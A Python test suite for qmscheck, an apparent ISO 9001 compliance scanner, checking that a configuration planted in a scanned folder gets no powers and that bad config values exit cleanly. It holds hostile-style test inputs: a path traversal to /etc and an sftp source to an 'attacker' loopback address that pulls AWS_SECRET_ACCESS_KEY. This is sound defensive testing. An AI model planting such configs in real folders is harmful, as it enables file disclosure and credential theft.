"""A qmscheck.toml found in a folder being scanned is evidence, not authority (docs/security.md).

Its settings apply (organisation, dates, exclusions, classify tables); its powers do not: reading
outside its folder, remote shares, secrets from the environment, fsspec protocol chains, an index
beside it. A file the user names (TARGET, --config) or trusts (--trust-config) has them. And every
value of a config is checked: a bad one exits 2 naming the file and the key, never a traceback.
"""

from __future__ import annotations

import json
import shutil
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from qmscheck.cli import main
from qmscheck.config.scan_config import CONFIG_NAME, load_config
from qmscheck.errors import ConfigError, ExitCode

ACME = Path(__file__).resolve().parents[1] / "fixtures" / "acme"
SECRET = "s3cr3t-#/?-value"


def run(*args: str | Path, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(main, [str(arg) for arg in args], prog_name="qmscheck", env=env)


@pytest.fixture
def share(tmp_path: Path) -> Path:
    """A folder someone else filled: one document, and whatever qmscheck.toml each test plants."""
    folder = tmp_path / "share"
    (folder / "docs").mkdir(parents=True)
    (folder / "docs" / "quality-manual.md").write_text("# Quality manual\n\nOur quality policy.\n", encoding="utf-8")
    return folder


def plant(folder: Path, text: str) -> Path:
    (folder / CONFIG_NAME).write_text(text, encoding="utf-8")
    return folder / CONFIG_NAME


def refused(result: Result, *keys: str) -> str:
    """The message of a scan refused before anything was read: exit 2, naming the file, each key and the way out."""
    assert result.exit_code == ExitCode.USAGE_ERROR, result.output
    assert result.stdout == "" and "Traceback" not in result.stderr
    assert "is not trusted" in result.stderr and "--trust-config" in result.stderr
    for key in keys:
        assert f"\n  {key}: " in result.stderr, (key, result.stderr)
    return result.stderr


# --- P1: a planted config cannot reach out ---------------------------------------------------------


def test_a_planted_config_cannot_read_outside_its_folder(share: Path) -> None:
    plant(share, '[[sources]]\nconnector = "filesystem"\npath = "../../../../../../../etc"\n')
    message = refused(run("scan", share, "--no-index", "--format", "json"), "sources[0].path")
    assert f"{share / CONFIG_NAME}: " in message and "leads outside its folder (to /etc)" in message
    # Nor through a link inside it: the path is judged where it leads.
    (share / "docs-link").symlink_to("/etc")
    plant(share, '[[sources]]\nconnector = "filesystem"\npath = "docs-link"\n')
    refused(run("scan", share, "--no-index"), "sources[0].path")


def test_a_planted_config_keeps_its_own_folders_and_settings(share: Path) -> None:
    plant(
        share,
        '[organisation]\nname = "Planted Ltd"\n[scan]\nas_of = 2026-01-31\n[[sources]]\nconnector = "filesystem"\npath = "docs"\n',
    )
    config = load_config(share)
    assert (config.found_as, config.trusted) == ("own", False)
    assert config.organisation.name == "Planted Ltd" and str(config.scan.as_of) == "2026-01-31"
    result = run("scan", share, "--no-index", "--fail-on", "never", "--format", "json")
    assert result.exit_code in (ExitCode.OK, ExitCode.USAGE_ERROR), result.output  # a one-page share may say nothing
    assert "so not trusted: its settings apply, not its powers" in result.stderr


class Listener:
    """A TCP port on the loopback that records every connection made to it."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except TimeoutError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def test_a_planted_config_sends_no_secret_and_connects_nowhere(share: Path, listener: Listener) -> None:
    plant(
        share,
        "[[sources]]\n"
        'connector = "filesystem"\n'
        f'path = "sftp://attacker@127.0.0.1:{listener.port}/loot"\n'
        'password_env = "AWS_SECRET_ACCESS_KEY"\n',
    )
    env = {"AWS_SECRET_ACCESS_KEY": SECRET}
    message = refused(run("scan", share, "--no-index", env=env), "sources[0].path", "sources[0].password_env")
    assert "read a remote share" in message and "read the environment variable AWS_SECRET_ACCESS_KEY" in message
    assert SECRET not in message
    assert listener.connections == 0
    # The control: trusted, the same file does reach the port (which speaks no SSH, so the scan fails).
    trusted = run("scan", share, "--no-index", "--trust-config", env=env)
    assert trusted.exit_code != ExitCode.OK and "Traceback" not in trusted.stderr
    assert listener.connections >= 1 and SECRET not in trusted.output


def test_a_planted_config_gets_no_index_in_the_scanned_folder(share: Path, tmp_path: Path) -> None:
    plant(share, '[[sources]]\nconnector = "filesystem"\npath = "."\n')
    env = {"XDG_CACHE_HOME": str(tmp_path / "cache")}
    result = run("scan", share, "--fail-on", "never", "-v", env=env)
    assert "evidence index: " + str(tmp_path / "cache" / "qmscheck" / "share-") in result.stderr, result.output
    assert not (share / ".qmscheck").exists()
    # A config named on the command line keeps its index beside it, as its owner chose.
    named = run("scan", share / CONFIG_NAME, "--fail-on", "never", env=env)
    assert (share / ".qmscheck" / "index.sqlite").is_file(), named.output


@pytest.mark.parametrize("trust", [[], ["--trust-config"]])
def test_a_protocol_chain_creates_nothing_unless_a_trusted_config_allows_it(
    share: Path, tmp_path: Path, trust: list[str]
) -> None:
    cache = tmp_path / "created-by-the-chain"
    plant(
        share,
        "[[sources]]\n"
        'connector = "filesystem"\n'
        f'path = "simplecache::file://{share / "docs"}"\n'
        f'storage_options = {{ simplecache = {{ cache_storage = "{cache}" }} }}\n',
    )
    result = run("scan", share, "--no-index", *trust)
    assert result.exit_code == ExitCode.USAGE_ERROR and "Traceback" not in result.stderr
    assert "sources[0]: Value error, path chains fsspec protocols" in result.stderr
    assert "allow_protocol_chain = true" in result.stderr
    assert not cache.exists()


def test_an_allowed_protocol_chain_is_still_a_power_of_trusted_configs_alone(share: Path) -> None:
    config = plant(
        share,
        '[[sources]]\nconnector = "filesystem"\npath = "simplecache::file://docs"\nallow_protocol_chain = true\n',
    )
    assert load_config(config).trusted  # named: allowed
    refused(run("scan", share, "--no-index"), "sources[0].path")


def test_a_named_config_has_its_powers(share: Path, tmp_path: Path) -> None:
    text = '[[sources]]\nconnector = "filesystem"\npath = "sftp://qms@127.0.0.1:1/qms"\npassword_env = "QMS_PASSWORD"\n'
    config = plant(share, text)
    assert load_config(config).trusted and load_config(config).found_as == "named"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    by_option = load_config(elsewhere, config)
    assert (by_option.found_as, by_option.trusted) == ("named", True)
    with pytest.raises(ConfigError, match="password_env"):
        load_config(share)
    assert load_config(share, trust=True).trusted


def test_a_config_above_the_scanned_folder_is_not_trusted_either(share: Path) -> None:
    plant(share, '[[sources]]\nconnector = "filesystem"\npath = "docs"\npassword_env = "HOME"\n')
    with pytest.raises(ConfigError, match=r"found above the scanned folder.*\n  sources\[0\]\.password_env"):
        load_config(share / "docs")
    assert load_config(share / "docs", trust=True).found_as == "above"


def test_a_config_cannot_declare_itself_trusted(share: Path) -> None:
    plant(share, 'trusted = true\nfound_as = "named"\n[[sources]]\nconnector = "filesystem"\npath = "docs"\n')
    with pytest.raises(ConfigError, match=r"found_as: unknown key.*\n.*trusted: unknown key"):
        load_config(share)


def test_acme_quick_start_reads_its_own_config_untrusted() -> None:
    config = load_config(ACME)
    assert (config.found_as, config.trusted) == ("own", False)
    assert [source.options()["path"] for source in config.sources] == ["share"]
    assert [exclusion.clause for exclusion in config.organisation.exclusions] == ["8.3"]


# --- P25-P28: every bad value is an error naming the file and the key ------------------------------

NESTED = "x = " + "[" * 100_000 + "]" * 100_000 + "\n"
SOURCE = '[[sources]]\nconnector = "filesystem"\npath = "docs"\n'


@pytest.mark.parametrize(
    ("toml", "expected"),
    [
        ("[scan]\nas_of = 9999-12-31\n" + SOURCE, "scan.as_of: Input should be less than or equal to 2999-12-31"),
        ("[scan]\nas_of = 0001-01-01\n" + SOURCE, "scan.as_of: Input should be greater than or equal to 1900-01-01"),
        (SOURCE + f'max_file_size = "{"9" * 400}"\n', "sources[0].max_file_size: Value error, '9999"),
        (SOURCE + f"max_file_size = {'9' * 400}\n", "sources[0].max_file_size: Value error, 9999"),
        (SOURCE + "password_env = 5\n", "sources[0].password_env: Input should be a valid string, not 5"),
        (SOURCE + 'pasword_env = "X"\n', "sources[0].pasword_env: unknown key"),
        (NESTED + SOURCE, "arrays or tables nested too deeply to read"),
        (
            '[[organisation.exclusions]]\nclause = "4.1"\njustification = "We need not know our context."\n' + SOURCE,
            "organisation.exclusions[0].clause: ISO 9001 clause 4.1 cannot be declared not applicable (only 8.3, "
            "8.5.2, 8.5.3, 8.5.5",
        ),
        (
            '[[organisation.exclusions]]\nclause = "99.9"\njustification = "No such clause at all."\n' + SOURCE,
            "organisation.exclusions[0].clause: '99.9' is not a clause of ISO 9001",
        ),
        (
            '[[organisation.exclusions]]\nclause = "8.3"\nstandard = "iso9010"\njustification = "We design nothing."\n'
            + SOURCE,
            "organisation.exclusions[0].standard: 'iso9010' is not a standard of the selected packs (iso9001); "
            "did you mean 'iso9001'?",
        ),
    ],
)
def test_a_bad_value_exits_2_naming_the_file_and_the_key(share: Path, toml: str, expected: str) -> None:
    plant(share, toml)
    result = run("scan", share, "--no-index")
    assert result.exit_code == ExitCode.USAGE_ERROR, result.output
    assert result.stdout == "" and "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert f"{share / CONFIG_NAME}: " in result.stderr and expected in result.stderr, result.stderr
    assert len(result.stderr) < 2000  # a 400-digit value is named, not repeated


def test_the_options_are_checked_alike(share: Path, tmp_path: Path) -> None:
    plant(share, SOURCE)
    late = run("scan", share, "--no-index", "--as-of", "9999-12-31")
    assert late.exit_code == ExitCode.USAGE_ERROR and "9999-12-31 is outside the days" in late.stderr
    huge = run("scan", share, "--no-index", "--max-file-size", "9" * 400)
    assert huge.exit_code == ExitCode.USAGE_ERROR and "too large a size" in huge.stderr
    nested = tmp_path / "scan.json"
    nested.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    deep = run("report", nested)
    assert deep.exit_code == ExitCode.USAGE_ERROR and "nested too deeply" in deep.stderr


def test_a_byte_order_mark_is_read_as_editors_write_it(share: Path) -> None:
    (share / CONFIG_NAME).write_bytes(b"\xef\xbb\xbf" + ('[organisation]\nname = "BOM Ltd"\n' + SOURCE).encode())
    assert load_config(share).organisation.name == "BOM Ltd"


def test_a_huge_config_is_refused_unread(share: Path) -> None:
    with (share / CONFIG_NAME).open("w", encoding="utf-8") as handle:
        handle.write(SOURCE)
        handle.write(("# " + "x" * 1000 + "\n") * 11_000)
    with pytest.raises(ConfigError, match="too large for a settings file"):
        load_config(share)


# --- a decisions file planted beside an untrusted config -------------------------------------------


def test_a_planted_decisions_file_is_not_applied(tmp_path: Path) -> None:
    """A waiver takes a finding out of the verdict and the exit code: one found beside a configuration
    that is not trusted is not applied, and the report says so; named, or trusted, it applies."""
    org = tmp_path / "acme"
    shutil.copytree(ACME, org, ignore=shutil.ignore_patterns(".qmscheck"))
    first = run("scan", org, "-j", "1", "--no-index", "--format", "json", "-q")
    [major] = [f for f in json.loads(first.stdout)["findings"] if f["grade"] == "major"]
    (org / "qmscheck.decisions.toml").write_text(
        f'[findings.{major["fingerprint"]}]\nstatus = "waived"\nreason = "planted"\nby = "someone"\n'
        "date = 2026-03-20\nexpires = 2026-04-30\n",
        encoding="utf-8",
    )
    untrusted = run("scan", org, "-j", "1", "--no-index", "--format", "json")
    assert untrusted.exit_code == 1, untrusted.output  # the major still counts
    report = json.loads(untrusted.stdout)
    assert report["summary"]["major"] == 1
    assert any("qmscheck.decisions.toml was not applied" in w["message"] for w in report["warnings"])
    for trusting in (["--trust-config"], ["--decisions", str(org / "qmscheck.decisions.toml")]):
        trusted = run("scan", org, "-j", "1", "--no-index", "--format", "json", "-q", *trusting)
        assert json.loads(trusted.stdout)["summary"]["major"] == 0, trusting
